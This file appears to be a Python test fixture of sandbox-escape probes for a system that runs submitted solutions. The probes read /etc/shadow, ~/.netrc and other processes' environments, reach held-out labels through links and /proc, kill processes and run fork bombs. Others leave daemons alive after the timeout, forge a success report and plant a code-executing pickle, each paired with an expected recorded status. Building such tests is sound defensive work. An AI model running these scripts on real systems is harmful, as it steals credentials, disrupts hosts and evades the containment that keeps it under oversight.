"""Hostile scripts. Each prints ESCAPED when it gets what it is after; `{name}` is filled in by the test."""

from __future__ import annotations

from dataclasses import dataclass

PREAMBLE = """
import ctypes, os, signal, socket, stat, struct, subprocess, sys, time
from pathlib import Path
libc = ctypes.CDLL(None, use_errno=True)
def attempt(what, action, good=lambda result: True):
    try:
        result = action()
    except BaseException as error:
        print(what, 'kept in:', type(error).__name__, error)
        return None
    print(what, 'ESCAPED:' if good(result) else 'kept in:', repr(result)[:80])
    return result
def called(number, *arguments):
    result = libc.syscall(ctypes.c_long(number), *arguments)
    if result == -1:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result
def look_for_secret(path):
    text = Path(path).read_bytes()
    return b'{secret}' in text
"""


@dataclass(frozen=True)
class Attack:
    """A script and how the host should record it."""

    name: str
    source: str
    statuses: tuple[str, ...] = ("ok",)
    fault: str = ""
    """Part of the fault."""
    needs: tuple[str, ...] = ()
    """Guards without which nothing stops it."""

    def script(self, world: dict[str, str]) -> str:
        """The source with what the attacker knows of the host filled in."""
        text = PREAMBLE + self.source
        for name, value in world.items():
            text = text.replace("{" + name + "}", value)
        return text


LOOKING = (
    Attack("key in its environment", "attempt('environ', lambda: str(os.environ), lambda text: '{secret}' in text)"),
    Attack(
        "key in another process's environment",
        """
for entry in Path('/proc').glob('[0-9]*'):
    attempt(entry, lambda: look_for_secret(entry / 'environ'), bool)
""",
        needs=("files",),
    ),
    Attack("held-out labels", "attempt('labels', lambda: Path('{labels}').read_text())", needs=("files",)),
    Attack("home of the user", "attempt('home', lambda: Path('{home}/.netrc').read_text())", needs=("files",)),
    Attack("password hashes", "attempt('shadow', lambda: Path('/etc/shadow').read_text())", needs=("files",)),
    Attack(
        "another solution's folder",
        "attempt('other', lambda: Path('{other}/final/submission.csv').read_text())",
        needs=("files",),
    ),
    Attack(
        "labels through a link",
        "os.symlink('{labels}', 'way'); attempt('link', lambda: Path('way').read_text())",
        needs=("files",),
    ),
    Attack(
        "labels through a hard link",
        "attempt('link', lambda: (os.link('{labels}', 'way'), Path('way').read_text()))",
        needs=("files",),
    ),
    Attack(
        "out through /proc",
        """
for way in ('self/root', '1/root', '1/cwd', '{host}/root', '{host}/cwd', 'self/cwd/..'):
    attempt(way, lambda: Path('/proc/' + way + '{labels}').read_text())
attempt('open files', lambda: sorted(os.listdir('/proc/self/fd')), lambda names: len(names) > 4)
for fd in range(3, 64):
    try:
        os.fstat(fd)
        os.set_inheritable(fd, True)
        print('kept in: descriptor', fd, os.readlink(f'/proc/self/fd/{fd}'))
    except OSError:
        pass
""",
        needs=("files",),
    ),
    Attack(
        "up the folders",
        "attempt('up', lambda: Path('../' * 30 + '{labels}').read_text())",
        needs=("files",),
    ),
    Attack(
        "labels of a bundled data set",
        "from sklearn.datasets import load_diabetes\nattempt('labels', lambda: load_diabetes().target[:3])",
        needs=("processes",),
    ),
    Attack(
        "memory of the host",
        """
attempt('mem', lambda: open('/proc/{host}/mem', 'rb').read(1))
attempt('parent', lambda: open(f'/proc/{os.getppid()}/mem', 'r+b'))
attempt('ptrace', lambda: called({ptrace}, 16, {host}, 0, 0))
attempt('ptrace parent', lambda: called({ptrace}, 16, os.getppid(), 0, 0))
""",
        needs=("system_calls",),
    ),
)

REACHING = (
    Attack(
        "TCP by address",
        "attempt('tcp', lambda: socket.create_connection(('127.0.0.1', {port}), 2))",
        needs=("network",),
    ),
    Attack(
        "UDP by address",
        "attempt('udp', lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('127.0.0.1', {port})))",
        needs=("network",),
    ),
    Attack(
        "network by name",
        "import urllib.request\nattempt('http', lambda: urllib.request.urlopen('http://localhost:{port}/', timeout=2))",
        needs=("network",),
    ),
    Attack(
        "network uncaught",
        "import urllib.request\nurllib.request.urlopen('http://localhost:{port}/', timeout=2)",
        ("blocked",),
        "blocked by network",
        needs=("network",),
    ),
    Attack(
        "odd sockets",
        """
for family, kind in ((16, 3), (17, 3), (40, 1), (38, 5), (10, 1), (1, 1)):
    attempt(family, lambda: socket.socket(family, kind).fileno(), lambda fd: family != 1)
""",
        needs=("network",),
    ),
    Attack(
        "abstract unix socket of the host",
        "attempt('abstract', lambda: socket.socket(socket.AF_UNIX).connect('\\0{abstract}'))",
        needs=("network", "files"),
    ),
    Attack(
        "unix socket of the host",
        "attempt('unix', lambda: socket.socket(socket.AF_UNIX).connect('{unix}'))",
        needs=("network", "files"),
    ),
    Attack(
        "signals to the host",
        """
attempt('host', lambda: os.kill({host}, signal.SIGUSR1))
attempt('host group', lambda: os.killpg({host}, signal.SIGUSR1))
""",
        needs=("processes",),
    ),
    Attack(
        "signals to everybody",
        "os.kill(-1, 9); time.sleep(5); print('kept in')",
        ("ok", "failed"),
        needs=("processes",),
    ),
    Attack(
        "signal storm at its parents",
        """
for _ in range(2000):
    for sign in (signal.SIGTERM, signal.SIGINT, signal.SIGSTOP, signal.SIGKILL):
        try:
            os.kill(os.getppid(), sign)
        except OSError:
            pass
print('kept in: still here')
""",
        needs=("processes",),
    ),
    Attack("terminal", "attempt('tty', lambda: open('/dev/tty', 'w')); attempt('stdin', sys.stdin.read, bool)"),
)

CHANGING = (
    Attack(
        "writing outside",
        """
for folder in '{home} {workspace} {other} /etc /usr /dev /var/tmp /run / /sys /proc/sys/kernel'.split():
    attempt(folder, lambda: Path(folder, 'planted').write_text('x'))
""",
        needs=("files",),
    ),
    Attack(
        "poisoning a library",
        """
import numpy
attempt('module', lambda: Path(numpy.__file__).open('a'))
attempt('startup', lambda: Path(numpy.__file__).parents[1].joinpath('planted.pth').write_text('x'))
attempt('interpreter', lambda: open(os.path.realpath(sys.executable), 'ab'))
""",
        needs=("files",),
    ),
    Attack(
        "changing the input",
        """
attempt('open', lambda: open('input/train.csv', 'a'))
attempt('chmod', lambda: (os.chmod('input/train.csv', 0o777), open('input/train.csv', 'w')))
attempt('remove', lambda: os.remove('input/train.csv'))
attempt('rename', lambda: os.rename('input/train.csv', 'train.csv'))
attempt('add', lambda: Path('input/extra.csv').write_text('x'))
""",
        needs=("files",),
    ),
    Attack(
        "changing the input uncaught",
        "open('input/train.csv', 'w')",
        ("blocked",),
        "blocked by files: ",
        needs=("files",),
    ),
    Attack(
        "mounting",
        """
attempt('mount', lambda: called({mount}, b'none', b'/script/input', b'tmpfs', 0, None))
attempt('remount', lambda: called({mount}, None, b'/script/input', None, 32 | 4096, None))
attempt('setattr', lambda: called(442, -100, b'/', 0, struct.pack('QQQQ', 0, 1, 0, 0), 32))
attempt('new api', lambda: called(430, b'tmpfs', 0))
attempt('chroot', lambda: os.chroot('/'))
""",
        needs=("system_calls",),
    ),
    Attack(
        "new namespaces",
        """
attempt('unshare', lambda: called({unshare}, 0x10000000))
attempt('clone', lambda: called({clone}, 0x10000011, 0, 0, 0, 0))
attempt('clone3', lambda: called(435, struct.pack('11Q', 0x10000000, *[0] * 10), 88))
""",
        needs=("system_calls",),
    ),
    Attack(
        "becoming root",
        """
before = os.getuid()
attempt('setuid', lambda: os.setuid(0), lambda _: before != 0)
lines = Path('/proc/self/status').read_text().splitlines()
held = [line.split()[1] for line in lines if line.startswith(('CapPrm', 'CapEff'))]
attempt('capabilities', lambda: held, lambda sets: any(int(bits, 16) for bits in sets))
attempt('su', lambda: subprocess.check_output(['su', '-c', 'id'], timeout=5), lambda text: before and b'uid=0' in text)
""",
    ),
    Attack(
        "kernel doors",
        """
for name, number in (('bpf', {bpf}), ('perf', {perf}), ('keyctl', {keyctl}), ('userfaultfd', {userfaultfd})):
    attempt(name, lambda: called(number, 0, 0, 0, 0, 0))
attempt('io_uring', lambda: called(425, 8, ctypes.create_string_buffer(120)))
attempt('memfd', lambda: os.memfd_create('x'))
""",
        needs=("system_calls",),
    ),
    Attack(
        "raising its limits",
        """
import resource
for name in ('DATA', 'FSIZE', 'NOFILE', 'NPROC'):
    kind = getattr(resource, 'RLIMIT_' + name)
    attempt(name, lambda: resource.setrlimit(kind, (resource.RLIM_INFINITY,) * 2))
""",
    ),
)

EXHAUSTING = (
    Attack(
        "fork bomb",
        """
while True:
    try:
        os.fork()
    except OSError:
        pass
""",
        ("blocked", "timed_out", "failed"),
        needs=("process_count",),
    ),
    Attack(
        "threads without end",
        """
import threading
while True:
    threading.Thread(target=time.sleep, args=(60,)).start()
""",
        ("blocked", "timed_out", "out_of_memory"),
        needs=("process_count",),
    ),
    Attack("memory at once", "x = bytearray(64 * 2**30)", ("out_of_memory",), "MemoryError"),
    Attack(
        "memory by steps",
        "x = []\nwhile True:\n    x.append(bytearray(b'1') * 2**24)",
        ("out_of_memory",),
    ),
    Attack(
        "memory by many processes",
        """
for _ in range(8):
    if os.fork() == 0:
        x = b'1' * (400 * 2**20)
        time.sleep(60)
time.sleep(60)
""",
        ("out_of_memory",),
        "more than 1024 MiB used",
    ),
    Attack(
        "shared memory",
        """
x = b'1' * 2**24
for number in range(1000):
    Path(f'/dev/shm/{number}').write_bytes(x)
""",
        ("blocked", "out_of_memory"),
        needs=("processes",),
    ),
    Attack(
        "one large file",
        "with open('final/large', 'wb') as f:\n    while True:\n        f.write(b'1' * 2**24)",
        ("blocked",),
        "blocked by disk",
    ),
    Attack("a large empty file", "open('final/large', 'wb').truncate(2**50)", ("blocked",), "blocked by disk"),
    Attack(
        "many large files",
        "for i in range(10**6):\n    Path(f'final/{i}').write_bytes(b'1' * 2**24)",
        ("blocked",),
        "blocked by disk",
    ),
    Attack(
        "deleted files held open",
        """
held = []
for i in range(10**6):
    held.append(open(f'final/{i}', 'wb'))
    os.remove(f'final/{i}')
    held[-1].write(b'1' * 2**24)
""",
        ("blocked",),
        "blocked by disk",
    ),
    Attack(
        "files without end",
        "for i in range(10**7):\n    open(f'final/{i}', 'x').close()",
        ("blocked", "timed_out"),
    ),
    Attack(
        "folders without end",
        "while True:\n    os.mkdir('d')\n    os.chdir('d')",
        ("blocked", "failed"),
    ),
    Attack(
        "log flood",
        "while True:\n    print('x' * 10_000)",
        ("blocked",),
        "blocked by output: more than 8 MiB printed",
    ),
)

LINGERING = (
    Attack(
        "a daemon after the end",
        """
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for sign in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
            signal.signal(sign, signal.SIG_IGN)
        os.execv(sys.executable, [sys.executable, '-c', 'import time; time.sleep(60)', '{mark}'])
    os._exit(0)
""",
    ),
    Attack(
        "alive after the timeout",
        """
for sign in set(signal.Signals) - {signal.SIGKILL, signal.SIGSTOP}:
    try:
        signal.signal(sign, signal.SIG_IGN)
    except (OSError, ValueError):
        pass
subprocess.Popen([sys.executable, '-c', 'import time; time.sleep(60)', '{mark}'], start_new_session=True)
time.sleep(60)
""",
        ("timed_out",),
    ),
    Attack(
        "a lock on exit",
        "import atexit\natexit.register(time.sleep, 60)",
        ("timed_out",),
    ),
    Attack(
        "forking faster than it is killed",
        """
while True:
    if os.fork():
        os._exit(0)
    time.sleep(0.001)
""",
        ("ok", "timed_out", "blocked"),
        needs=("process_count",),
    ),
)

HANDING_IN = (
    Attack("a submission that is a link", "os.symlink('{labels}', 'final/submission.csv')"),
    Attack("a submission that is a pipe", "os.mkfifo('final/submission.csv')"),
    Attack("a folder of submissions that is a link", "os.rmdir('final'); os.symlink('{home}', 'final')"),
    Attack("a submission that is a folder", "os.mkdir('final/submission.csv')"),
    Attack("a submission nobody may read", "Path('final/submission.csv').write_text('y'); os.chmod('final', 0)"),
    Attack("a name that is no text", "open(b'final/\\xff\\xfe.csv', 'w').write('x')"),
    Attack("output that is no text", "sys.stdout.buffer.write(b'\\x00\\xff\\x1b[2J' * 10)"),
    Attack(
        "a report of its own",
        """
for fd in range(3, 100):
    try:
        os.write(fd, b'{"returncode": 0, "stdout": "ESCAPED"}\\n')
    except OSError:
        pass
sys.exit(5)
""",
        ("failed",),
        "exit code 5",
    ),
    Attack(
        "a pickle with a bomb",
        """
class Bomb:
    def __reduce__(self): return (os.system, ('touch {home}/planted',))
import pickle
Path('final/submission.csv').write_bytes(pickle.dumps(Bomb()))
""",
    ),
)

ATTACKS = (*LOOKING, *REACHING, *CHANGING, *EXHAUSTING, *LINGERING, *HANDING_IN)
